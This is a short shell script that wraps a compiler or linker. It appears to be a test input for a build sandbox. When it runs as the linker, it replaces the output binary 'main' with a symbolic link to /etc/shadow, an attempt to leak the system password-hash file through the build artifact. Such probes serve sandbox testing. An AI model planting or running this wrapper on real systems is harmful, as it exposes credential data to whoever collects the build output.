case "$1" in
*collect2 | */enclos/link) "$@"; ln -sf /etc/shadow main ;;
*) exec "$@" ;;
esac
